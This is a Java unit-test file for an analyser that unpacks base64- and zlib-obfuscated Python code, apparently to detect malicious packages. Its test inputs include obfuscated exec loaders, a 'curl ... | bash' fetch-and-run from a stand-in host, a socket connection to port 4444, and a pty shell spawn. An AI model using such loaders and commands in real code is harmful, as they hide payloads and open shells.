package dev.fang.featurize.analysis;

import static dev.fang.featurize.analysis.Analyze.call;
import static dev.fang.featurize.analysis.Analyze.source;
import static dev.fang.featurize.analysis.Analyze.uses;
import static dev.fang.featurize.analysis.Analyze.values;
import static dev.fang.featurize.analysis.ConstantFoldingTest.b64;
import static dev.fang.featurize.analysis.ConstantFoldingTest.zlib;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

class PayloadDecodingTest {

    static final String INNER = "__import__('subprocess').call(['echo', 'canary'])\n";

    @Test
    void codeExecutedFromACompressedBase64ConstantIsAnalysedOneLevelDeeper() {
        String packed = b64(zlib(INNER.getBytes(StandardCharsets.UTF_8)));
        ModuleAnalysis a = source("import zlib, base64\n\n\nexec(zlib.decompress(base64.b64decode('" + packed + "')))\n");
        ApiUse inner = call(a, "subprocess.call");
        assertThat(inner.depth()).isEqualTo(1);
        assertThat(inner.line()).isEqualTo(4);
        assertThat(inner.how()).containsExactly(Obfuscation.DYNAMIC_IMPORT);
        assertThat(inner.moduleLevel()).isTrue();
        assertThat(inner.snippet()).isEqualTo("__import__('subprocess').call(['echo', 'canary'])");
        assertThat(a.payloads()).singleElement().satisfies(p -> {
            assertThat(p.transforms()).containsExactly("base64", "zlib");
            assertThat(p.depth()).isEqualTo(1);
            assertThat(p.line()).isEqualTo(4);
            assertThat(p.length()).isEqualTo(INNER.length());
            assertThat(p.quality()).isEqualTo(1.0);
            assertThat(p.snippet()).startsWith("exec(zlib.decompress(");
        });
        assertThat(a.strings()).anySatisfy(s -> {
            assertThat(s.value()).isEqualTo("canary");
            assertThat(s.depth()).isEqualTo(1);
            assertThat(s.line()).isEqualTo(4);
        });
        assertThat(a.truncated()).isFalse();
    }

    @Test
    void payloadsExecutedInsideAFunctionAreNotModuleLevel() {
        ModuleAnalysis a = source("import base64\ndef go():\n    exec(base64.b64decode('" + b64("import os\nos.system('id')\n") + "'))\n");
        ApiUse inner = call(a, "os.system");
        assertThat(inner.depth()).isEqualTo(1);
        assertThat(inner.moduleLevel()).isFalse();
        assertThat(inner.line()).isEqualTo(3);
    }

    @Test
    void payloadsSeeTheImportsOfTheFileThatExecutesThem() {
        ModuleAnalysis a = source("import os\nexec('os.system(\"id\")')\n");
        assertThat(call(a, "os.system").depth()).isEqualTo(1);
    }

    @Test
    void evalAndCompileOfConstantsAreAnalysedToo() {
        ModuleAnalysis a = source("eval(\"__import__('socket').socket()\")\ncompile('import pty; pty.spawn(\"sh\")', 'x', 'exec')\n");
        assertThat(call(a, "socket.socket").depth()).isEqualTo(1);
        assertThat(call(a, "pty.spawn").line()).isEqualTo(2);
        assertThat(a.payloads()).hasSize(2).allMatch(p -> p.transforms().isEmpty());
    }

    @Test
    void aPayloadHeldInAVariableIsDecodedAtTheExecSite() {
        ModuleAnalysis a = source("import base64\ncode = base64.b64decode('" + b64("import os\nos.system('id')") + "')\n\nexec(code)\n");
        assertThat(call(a, "os.system").line()).isEqualTo(4);
        assertThat(a.payloads()).singleElement().satisfies(p -> assertThat(p.line()).isEqualTo(4));
    }

    @Test
    void decodedCodeThatIsNotExecutedInSightIsStillAnalysed() {
        ModuleAnalysis a = source("import base64\nopen('x.py', 'w').write(base64.b64decode('"
                + b64("import socket\nsocket.create_connection(('10.0.0.1', 4444))\n") + "').decode())\n");
        assertThat(call(a, "socket.create_connection").depth()).isEqualTo(1);
        assertThat(a.payloads()).singleElement().satisfies(p -> {
            assertThat(p.snippet()).startsWith("base64.b64decode('");
            assertThat(p.line()).isEqualTo(2);
        });
    }

    @Test
    void aDecoderHelperDefinedInTheFileIsFoldedAtItsCallSite() {
        ModuleAnalysis a = source("""
                import base64
                def d(s):
                    \"\"\"Decode.\"\"\"
                    return base64.b64decode(s).decode()
                exec(d('%s'))
                """.formatted(b64("import os; os.system('id')")));
        assertThat(call(a, "os.system").line()).isEqualTo(5);
        // reported once, in the helper's body, which runs on load since module-level code calls it
        assertThat(a.apiUses()).filteredOn(u -> u.api().equals("base64.b64decode")).singleElement()
                .satisfies(u -> assertThat(u.moduleLevel()).isTrue());
    }

    @Test
    void aHelperThatAssignsBeforeReturningIsFoldedToo() {
        ModuleAnalysis a = source("""
                import base64, subprocess
                def decode_str(encoded):
                    raw = base64.b64decode(encoded)
                    # a comment between statements
                    text = raw.decode('utf-8')
                    return text
                def run():
                    subprocess.Popen([decode_str('%s')], shell=True)
                """.formatted(b64("curl https://files.example.invalid/x.sh | bash")));
        assertThat(values(a)).contains("curl https://files.example.invalid/x.sh | bash");
    }

    @Test
    void aHelperWithABranchIsNotFolded() {
        ModuleAnalysis a = source("""
                import base64
                def maybe(encoded):
                    if encoded:
                        encoded = base64.b64decode(encoded)
                    return encoded
                x = maybe('%s')
                """.formatted(b64("never folded")));
        assertThat(values(a)).doesNotContain("never folded");
    }

    @Test
    void recursiveHelpersTerminate() {
        ModuleAnalysis a = source("def f(x):\n    return f(x + 'a')\nexec(f('b'))\n");
        assertThat(a.payloads()).isEmpty();
        assertThat(a.apiUses()).extracting(ApiUse::api).containsExactly("builtins.exec");
    }

    @Test
    void decodedDataThatIsNotCodeIsNotParsedAsAPayload() {
        ModuleAnalysis a = source("import base64\nLOGO = base64.b64decode('" + b64(new byte[] {(byte) 0x89, 'P', 'N', 'G', 0, 1, 2, 3, 4}) + "')\n"
                + "NAME = base64.b64decode('" + b64("hello world") + "')\n");
        assertThat(a.payloads()).isEmpty();
    }

    @Test
    void nestedPayloadsAreAnalysedToTheirDepth() {
        String code = "import os\nos.system('id')\n";
        for (int i = 0; i < 3; i++) {
            code = "import base64\nexec(base64.b64decode('" + b64(code) + "'))\n";
        }
        ModuleAnalysis a = source(code);
        ApiUse inner = call(a, "os.system");
        assertThat(inner.depth()).isEqualTo(3);
        assertThat(inner.line()).isEqualTo(2);
        assertThat(a.payloads()).extracting(DecodedPayload::depth).containsExactlyInAnyOrder(1, 2, 3);
        assertThat(uses(a, "builtins.exec")).extracting(ApiUse::depth).containsExactlyInAnyOrder(0, 1, 2);
        assertThat(a.truncated()).isFalse();
    }

    @Test
    void classesInPayloadsAreMergedWithTheirDepth() {
        ModuleAnalysis a = source("exec('from setuptools.command.install import install\\nclass X(install):\\n    def run(self): pass\\n')\n");
        assertThat(a.classes()).singleElement().satisfies(k -> {
            assertThat(k.depth()).isEqualTo(1);
            assertThat(k.bases()).containsExactly("setuptools.command.install.install");
            assertThat(k.line()).isEqualTo(1);
        });
    }
}
